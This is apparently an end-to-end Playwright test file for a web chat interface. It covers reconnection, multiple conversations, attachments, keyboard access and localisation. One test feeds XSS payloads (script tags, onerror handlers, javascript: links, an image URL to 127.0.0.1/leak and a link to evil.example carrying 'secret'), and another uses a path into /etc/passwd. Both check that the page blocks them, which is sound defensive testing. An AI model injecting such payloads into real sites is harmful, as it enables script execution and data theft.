"""What a page keeps and shows besides one turn: reloads, several pages, several conversations, attachments, attacks."""

import base64
from collections.abc import Callable
from pathlib import Path
from typing import Any

import anyio
import pytest

from tests.e2e.web.conftest import Visit
from tests.e2e.web.scenes import question_turn, whole_turn
from tests.e2e.web.site import Site
from tests.e2e.web.test_turns import sent
from weft.schema import events as e
from weft.schema.commands import PermissionAnswered, Prompt, Rewind, SetMode, SetModel
from weft.schema.content import Image, ToolResult, ToolUse, text_of
from weft.schema.display import LinksView, TextView, Todo
from weft.schema.wire import as_blocks
from weft.testing.connection import Stage, called, said

Serve = Callable[..., Site]
Go = Callable[..., Visit]

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


class Gate:
    """Lets a scripted turn go on when the test says so."""

    def __init__(self) -> None:
        self.event: anyio.Event | None = None

    async def wait(self) -> None:
        self.event = anyio.Event()
        await self.event.wait()

    def open(self, site: Site) -> None:
        assert self.event is not None
        site.portal.call(self.event.set)


HOLD_WHAT_ARRIVES = """
let held = [];
Object.defineProperty(WebSocket.prototype, "onmessage", { set(hear) {
  this.addEventListener("message", (event) => (held ? held.push(() => hear(event)) : hear(event)));
} });
globalThis.letIn = () => { const now = held; held = null; for (const hear of now) hear(); };
"""


def test_what_is_sent_before_the_host_has_answered_waits_for_its_conversation(serve: Serve, visit: Go) -> None:
    site = serve([said("The quick answer.")])
    here = visit(site)
    here.context.add_init_script(HOLD_WHAT_ARRIVES)
    quick = here.new_page()
    quick.goto(here.page.url)
    quick.fill(".composer textarea", "Are you there?")
    quick.keyboard.press("Enter")
    quick.evaluate("letIn()")
    quick.wait_for_selector("text=The quick answer.")
    assert len(sent(site, Prompt)) == 1


def test_a_reload_in_mid_turn_loses_nothing(serve: Serve, visit: Go) -> None:
    gate = Gate()

    async def turn(stage: Stage, prompt: Prompt) -> None:
        await stage.say("The first half.")
        await gate.wait()
        await stage.say("The second half.")

    site = serve([turn])
    here = visit(site)
    here.say("Tell me in two halves")
    here.page.wait_for_selector("text=The first half.")
    here.page.reload()
    here.page.wait_for_selector("text=The first half.")
    here.page.wait_for_selector(".send.stop")
    gate.open(site)
    here.page.wait_for_selector("text=The second half.")
    assert here.page.locator(".prose >> text=The first half.").count() == 1


def test_a_lost_socket_resumes_from_the_last_chunk(serve: Serve, visit: Go) -> None:
    gate = Gate()

    async def turn(stage: Stage, prompt: Prompt) -> None:
        await stage.say("Before the cut.")
        await gate.wait()
        await stage.say("After the cut.")

    site = serve([turn])
    here = visit(site)
    here.say("Go")
    here.page.wait_for_selector("text=Before the cut.")
    here.page.evaluate("weft.socket.socket.close()")
    gate.open(site)
    here.page.wait_for_selector("text=After the cut.")
    assert here.page.locator(".log .prose >> text=Before the cut.").count() == 1
    assert here.page.locator(".banner").is_hidden()


def test_two_pages_see_the_same_and_the_first_answer_counts(serve: Serve, visit: Go) -> None:
    site = serve([whole_turn])
    here = visit(site)
    here.say("Fix it")
    here.page.wait_for_selector(".ask.permission")
    other = here.new_page()
    other.goto(here.page.url)
    other.wait_for_selector(".ask.permission")
    other.keyboard.press("1")
    other.wait_for_selector("text=Done. All tests pass.")
    here.page.wait_for_selector("text=Done. All tests pass.")
    here.page.wait_for_selector(".ask", state="detached")
    late = "weft.send('toolApproval', {requestId: 'ask-edit', outcome: 'reject'})"
    here.page.evaluate(late)
    here.page.wait_for_selector(".toast >> text=answered already")
    assert len(sent(site, PermissionAnswered)) == 1
    for page in (here.page, other):
        page.wait_for_selector("body:not(.running)")
    assert here.page.text_content(".log") == other.text_content(".log")


def test_two_conversations_stream_at_once_and_none_stops_when_left(serve: Serve, visit: Go) -> None:
    gates: list[Gate] = []

    def turns(opening: Any) -> list[Any]:
        gate = Gate()
        gates.append(gate)
        name = "AB"[len(gates) - 1]

        async def turn(stage: Stage, prompt: Prompt) -> None:
            await stage.say(f"{name} begins.")
            await gate.wait()
            await stage.say(f"{name} ends.")

        return [turn]

    site = serve(turns)
    here = visit(site)
    here.say("First talk")
    here.page.wait_for_selector("text=A begins.")
    here.page.keyboard.press("Alt+n")
    here.page.wait_for_selector(".empty")
    here.say("Second talk")
    here.page.wait_for_selector("text=B begins.")
    here.page.locator(".dot.running").nth(1).wait_for()
    here.shot("two-conversations")
    gates[0].open(site)
    here.page.click(".row-title >> text=First talk")
    here.page.wait_for_selector("text=A ends.")
    gates[1].open(site)
    here.page.click(".row-title >> text=Second talk")
    here.page.wait_for_selector("text=B ends.")
    assert here.page.locator(".log >> text=A ends.").count() == 0


def test_a_picture_is_pasted_a_text_is_dropped_and_a_file_is_mentioned(serve: Serve, visit: Go) -> None:
    site = serve([said("I see.")])
    here = visit(site)
    paste = """(data) => {
        const bytes = Uint8Array.from(atob(data), (letter) => letter.charCodeAt(0));
        const transfer = new DataTransfer();
        transfer.items.add(new File([bytes], "shot.png", { type: "image/png" }));
        const area = document.querySelector(".composer textarea");
        area.dispatchEvent(new ClipboardEvent("paste", { clipboardData: transfer, bubbles: true, cancelable: true }));
        const drop = new DataTransfer();
        drop.items.add(new File(["hello"], "notes.txt", { type: "text/plain" }));
        window.dispatchEvent(new DragEvent("drop", { dataTransfer: drop, bubbles: true, cancelable: true }));
    }"""
    here.page.evaluate(paste, PIXEL)
    here.page.wait_for_selector(".attachments .chip >> text=notes.txt")
    here.page.focus(".composer textarea")
    here.page.keyboard.type("Look at @she")
    here.page.wait_for_selector(".completion-item.on >> text=src/shelf.py")
    here.shot("mention")
    here.page.keyboard.press("Enter")
    here.page.keyboard.press("Enter")
    here.page.wait_for_selector("text=I see.")
    content = sent(site, Prompt)[0].content
    pictures = [block for block in content if isinstance(block, Image)]
    assert base64.b64decode(pictures[0].source.data) == base64.b64decode(PIXEL)
    assert "@src/shelf.py" in content[-1].text
    assert here.page.locator(".user .thumb").count() == 1
    assert here.page.locator(".user .chip >> text=notes.txt").count() == 1


HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">
[click](javascript:window.hacked=3) ![pixel](http://127.0.0.1:9/leak?secret=1) <b onmouseover=hacked>b</b>

```html
<script>window.hacked = 4</script>
```

| <img src=x onerror=alert(1)> | b |
|---|---|
| `<svg onload=window.hacked=5>` | [out](http://evil.example/?q=secret) |
"""


def test_a_hostile_message_does_nothing(serve: Serve, visit: Go) -> None:
    name = '<img src=x onerror="window.hacked=6">'
    use = ToolUse("t", name, {"command": '"><script>window.hacked=7</script>'})
    ended = e.ToolEnded(
        tool_use_id="t",
        name=name,
        result=ToolResult("t", "<script>window.hacked=8</script>"),
        display=(TextView(HOSTILE, markdown=True), TextView(HOSTILE), LinksView(((name, "javascript:hacked=9"),))),
    )
    asked = e.PermissionAsked(request_id="r", use=use, title=name, reason=HOSTILE)
    todo = e.TodosChanged(todos=(Todo(name, "in_progress"),))
    call = e.ToolCalled(use=use, title=name, state="running", kind="execute")
    site = serve([[*said(HOSTILE, thinking=HOSTILE), todo, call, ended, e.Notice(text=HOSTILE), asked]])
    here = visit(site)
    requests: list[str] = []
    here.page.on("request", lambda request: requests.append(request.url))
    here.say(HOSTILE)
    here.page.wait_for_selector(".ask.permission")
    here.page.click(".log .prose >> text=out", strict=False)
    here.page.wait_for_selector("dialog .address >> text=http://evil.example/?q=secret")
    here.shot("link")
    here.page.keyboard.press("Escape")
    assert here.page.evaluate("window.hacked") is None
    assert here.page.locator(".log img, .log script, .log svg:not(.icon), .dock img, .dock script").count() == 0
    assert [url for url in requests if "evil" in url or "leak" in url] == []


def test_files_of_the_workspace_open_and_no_others(serve: Serve, visit: Go, project: Path) -> None:
    (project / "link").symlink_to("/etc/passwd")
    text = "See [the shelf](src/shelf.py:2), [up](../../etc/passwd) and [a link](link)."
    site = serve([said(text)])
    here = visit(site)
    here.say("Where?")
    here.page.click("text=the shelf")
    here.page.wait_for_selector(".file-line.on >> text=return line.split")
    here.page.keyboard.press("Escape")
    for number, words in enumerate(("up", "a link")):
        here.page.locator(".prose a", has_text=words).click()
        here.page.locator(".toast", has_text="outside of the workspace").nth(number).wait_for()


def test_choices_are_made_from_the_keyboard(serve: Serve, visit: Go) -> None:
    site = serve([said("Yes.")])
    here = visit(site)
    here.page.keyboard.type("/re")
    here.page.wait_for_selector(".completion-item.on >> text=/review")
    here.page.keyboard.press("Escape")
    here.page.fill(".composer textarea", "")
    here.page.keyboard.press("Shift+Tab")
    here.page.wait_for_selector(".picker-button >> text=Accept edits")
    here.page.get_by_role("button", name="Model: Loom Large").click()
    here.page.keyboard.press("ArrowDown")
    here.page.keyboard.press("Enter")
    here.page.wait_for_selector(".picker-button >> text=Loom Small")
    assert sent(site, SetMode) == [SetMode("acceptEdits")]
    assert sent(site, SetModel) == [SetModel("loom-small")]
    here.page.get_by_role("button", name="Menu", exact=True).click()
    here.page.get_by_role("menuitem", name="MCP servers").click()
    here.page.wait_for_selector(".server >> text=The server closed its output.")
    here.shot("servers")


def test_going_back_takes_the_message_into_the_box(serve: Serve, visit: Go) -> None:
    site = serve([said("One."), said("Two.")])
    here = visit(site)
    here.say("First")
    here.page.wait_for_selector("text=One.")
    here.say("Second")
    here.page.wait_for_selector("text=Two.")
    here.page.hover(".user >> nth=1")
    here.page.locator(".user").nth(1).get_by_role("button", name="Go back to here").click()
    here.page.click("text=Conversation only")
    here.page.wait_for_selector(".log >> text=Two.", state="detached")
    assert here.page.input_value(".composer textarea") == "Second"
    rewound = sent(site, Rewind)[0]
    assert (rewound.files, rewound.conversation) == (False, True)


def test_a_conversation_is_renamed_found_exported_and_deleted(serve: Serve, visit: Go) -> None:
    site = serve([[*said("The **answer**."), *called("Bash", {"command": "ls"}, output="a\n")]])
    here = visit(site)
    here.say("A talk about parsers")
    here.page.wait_for_selector("text=The answer.")
    with here.page.expect_download() as download:
        here.page.get_by_role("button", name="Menu", exact=True).click()
        here.page.get_by_role("menuitem", name="Export as Markdown").click()
    text = Path(download.value.path()).read_text()
    assert "The **answer**." in text
    assert "### Bash" in text
    here.page.hover(".row")
    here.page.get_by_role("button", name="More about this conversation").click()
    here.page.get_by_role("menuitem", name="Rename").click()
    here.page.fill("dialog input", "Lexers")
    here.page.keyboard.press("Enter")
    here.page.wait_for_selector(".row-title >> text=Lexers")
    here.page.fill(".search input", "nothing like it")
    here.page.wait_for_selector("text=Nothing found.")
    here.page.fill(".search input", "lex")
    here.page.wait_for_selector(".row-title >> text=Lexers")
    here.page.hover(".row")
    here.page.get_by_role("button", name="More about this conversation").click()
    here.page.get_by_role("menuitem", name="Delete").click()
    here.page.locator("dialog").get_by_role("button", name="Delete").click()
    here.page.wait_for_selector(".row", state="detached")
    here.page.wait_for_selector(".empty")


def test_the_page_speaks_chinese_and_is_dark_where_that_is_wanted(serve: Serve, visit: Go) -> None:
    site = serve([question_turn])
    here = visit(site, locale="zh-CN", color_scheme="dark")
    here.page.wait_for_selector("text=今天做点什么？")
    here.say("问我一个问题")
    here.page.wait_for_selector(".ask.question >> text=一个问题")
    assert here.page.evaluate("document.documentElement.lang") == "zh-CN"
    colour = here.page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert colour == "rgb(23, 23, 22)"
    here.shot("chinese-dark")


@pytest.mark.parametrize("width", [380, 1280])
def test_nothing_sticks_out_of_the_window(serve: Serve, visit: Go, width: int) -> None:
    site = serve(
        [[*said("word " * 300 + "\n\n```\n" + "x" * 4000 + "\n```\n"), *called("Bash", {"command": "y" * 900})]]
    )
    here = visit(site)
    here.page.set_viewport_size({"width": width, "height": 800})
    here.say("Long lines")
    here.page.wait_for_selector(".tool")
    assert here.page.evaluate("document.documentElement.scrollWidth") <= width


def test_a_whole_turn_is_made_without_a_mouse(serve: Serve, visit: Go) -> None:
    site = serve([whole_turn])
    here = visit(site)
    keys = here.page.keyboard
    here.page.wait_for_selector(".composer textarea:focus")
    keys.type("Fix it")
    keys.press("Enter")
    here.page.wait_for_selector(".ask.permission:focus")
    keys.press("Tab")
    here.page.wait_for_selector(".ask .diff-path:focus")
    keys.press("1")
    here.page.wait_for_selector("text=Done. All tests pass.")
    here.page.wait_for_selector("body:not(.running) .composer textarea:focus")
    keys.press("Alt+l")
    here.page.get_by_role("button", name="Copy the reply").wait_for()
    assert here.page.evaluate("document.activeElement.getAttribute('aria-label')") == "Copy the reply"
    for _ in range(20):
        keys.press("Shift+Tab")
        if here.page.evaluate(
            "document.activeElement.matches('.tool-head') && document.activeElement.innerText.includes('Bash')"
        ):
            break
    keys.press("Enter")
    here.page.wait_for_selector(".tool-head[aria-expanded=false] >> text=Bash")
    keys.press("Alt+i")
    here.page.wait_for_selector(".composer textarea:focus")
    keys.press("Tab")
    keys.press("Tab")
    keys.press("Enter")
    here.page.locator(".menu [role=menuitemradio]:focus").wait_for()
    keys.press("ArrowDown")
    keys.press("Enter")
    here.page.wait_for_selector("[data-mode=acceptEdits]:focus")
    keys.press("?")
    here.page.wait_for_selector("dialog .keys")


def test_every_control_has_a_name_for_a_screen_reader(serve: Serve, visit: Go) -> None:
    site = serve([whole_turn])
    here = visit(site)
    here.say("Fix it")
    here.page.wait_for_selector(".ask.permission")
    nameless = """[...document.querySelectorAll("button, input, textarea, select")].filter((each) =>
        !each.hidden && each.type !== "file" && !(each.textContent.trim() || each.getAttribute("aria-label")
        || each.labels?.length || each.placeholder)).map((each) => each.outerHTML)"""
    assert here.page.evaluate(nameless) == []


def test_what_only_a_server_knows_is_offered_while_a_prompt_is_typed(serve: Serve, visit: Go) -> None:
    def completes(text: str) -> tuple[int, tuple[e.Completion, ...]]:
        if text.startswith("/mcp__tickets__show "):
            known = ("WEFT-17", "WEFT-20")
            return 20, tuple(
                e.Completion(one, one, "id") for one in known if one.startswith(text[20:]) and one != text[20:]
            )
        at = text.find("@")
        return (
            (at, (e.Completion("database:table://books", "@database:table://books ", "A table"),))
            if at >= 0
            else (0, ())
        )

    prompt = e.CommandInfo("mcp__tickets__show", "Shows a ticket", "<id>", "mcp (tickets)")
    site = serve([said("Shown."), said("Read.")], commands=(prompt,), completes=completes)
    here = visit(site)
    here.page.keyboard.type("/mcp__t")
    here.page.wait_for_selector(".completion-item.on >> text=/mcp__tickets__show")
    here.page.keyboard.press("Tab")
    here.page.wait_for_selector(".completion-item >> text=WEFT-20")
    here.page.keyboard.press("ArrowDown")
    here.page.keyboard.press("Enter")
    here.page.wait_for_function("document.querySelector('.composer textarea').value === '/mcp__tickets__show WEFT-20'")
    here.page.keyboard.press("Enter")
    here.page.wait_for_selector("text=Shown.")
    here.page.keyboard.type("look at @book")
    here.page.wait_for_selector(".completion-item.on >> text=database:table://books")
    here.page.keyboard.press("Tab")
    here.page.keyboard.press("Enter")
    here.page.wait_for_selector("text=Read.")
    texts = [text_of(as_blocks(prompt.content)) for prompt in sent(site, Prompt)]
    assert texts == ["/mcp__tickets__show WEFT-20", "look at @database:table://books"]
